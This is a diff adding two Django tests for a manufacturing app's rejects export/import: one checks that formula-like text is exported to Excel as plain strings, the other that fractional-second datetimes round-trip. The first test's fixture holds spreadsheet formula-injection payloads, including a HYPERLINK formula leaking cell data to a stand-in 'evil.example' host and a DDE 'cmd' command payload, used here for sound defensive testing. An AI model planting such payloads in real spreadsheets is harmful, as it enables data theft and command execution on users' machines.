@@ -190,6 +190,66 @@ def test_fixed_in_excel_and_imported_back_stores_the_rows_that_now_pass(steward_
     assert ManufacturingOrder.objects.filter(pk=1003).count() == 1
 
 
+FORMULA_TEXTS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
+                 "\tTab", "\rCR")
+
+
+def test_rejects_export_writes_formula_like_text_as_text_and_imports_it_back(steward_client, rejected_run):
+    """Workbook text that a spreadsheet would run as a formula goes out as text and comes back unchanged (review)."""
+    import zipfile
+
+    from quality.models import QualityError
+
+    severity = Reject.objects.get(run=rejected_run, reason="bad_severity")
+    severity.original["Erro_Descricao"] = FORMULA_TEXTS[0]
+    severity.save()
+    others = []
+    for number, text in enumerate(FORMULA_TEXTS[1:], start=100):
+        other = Reject.objects.get(pk=severity.pk)
+        other.pk, other.row_number = None, number
+        other.original = {**severity.original, "Erro_Descricao": text}
+        other.save()
+        others.append(other)
+    ids = [severity.pk, *(o.pk for o in others)]
+    content = _exported(steward_client, ids).getvalue()
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml
+    workbook = load_workbook(io.BytesIO(content))
+    errors = workbook["OrdemFabricoErros"]
+    header = [c.value for c in errors[1]]
+    column = header.index("Erro_Descricao") + 1
+    texts = [errors.cell(r, column) for r in range(2, errors.max_row + 1)]
+    assert [c.value for c in texts] == list(FORMULA_TEXTS) and {c.data_type for c in texts} == {"s"}
+    for row in range(2, errors.max_row + 1):
+        errors.cell(row, header.index("OFCH_GRAVIDADE") + 1).value = 2  # the steward fixes the severity only
+    page = _import(steward_client, workbook).content.decode()
+    assert f"{len(FORMULA_TEXTS)} corrected row(s) stored" in page, page
+    stored = set(QualityError.objects.filter(order_id=1000).values_list("description", flat=True))
+    assert {t.strip() for t in FORMULA_TEXTS} <= stored
+
+
+def test_a_datetime_with_fractional_seconds_survives_the_rejects_round_trip(steward_client, empty_tables, tmp_path):
+    """A rejected row's real datetime (with milliseconds) is exported and imported back as the same instant (review)."""
+    from datetime import datetime
+    from zoneinfo import ZoneInfo
+
+    from ingestion.services import ingest_workbook
+    from orders.models import ManufacturingOrder
+
+    rows = base_rows()
+    rows["OrdensFabrico"].append([1003, datetime(2021, 1, 14, 3, 43, 50, 371000), "not a date", 10, 1, None])
+    run = ingest_workbook(path=str(write_workbook(tmp_path / "wb.xlsx", rows)))
+    reject = Reject.objects.get(run=run, sheet="OrdensFabrico", reason="bad_date")
+    assert "." in reject.original["Of_DataCriacao"]  # e.g. 2021-01-14T03:43:50.371000
+    workbook = load_workbook(_exported(steward_client, [reject.pk]))
+    workbook["OrdensFabrico"].cell(2, 3).value = "2021-01-20 10:00:00"  # the steward fixes the finish date only
+    page = _import(steward_client, workbook).content.decode()
+    assert "1 corrected row(s) stored and their rejects resolved; 0 still fail" in page, page
+    created = ManufacturingOrder.objects.get(pk=1003).created_at.astimezone(ZoneInfo("Europe/Lisbon")).replace(tzinfo=None)
+    assert abs((created - datetime(2021, 1, 14, 3, 43, 50, 371000)).total_seconds()) < 0.01  # Lisbon local, as read
+
+
 def test_a_corrections_file_without_its_headers_changes_nothing(steward_client, rejected_run):
     bad_date = Reject.objects.get(run=rejected_run, sheet="OrdensFabrico", reason="bad_date")
     workbook = load_workbook(_exported(steward_client, [bad_date.pk]))
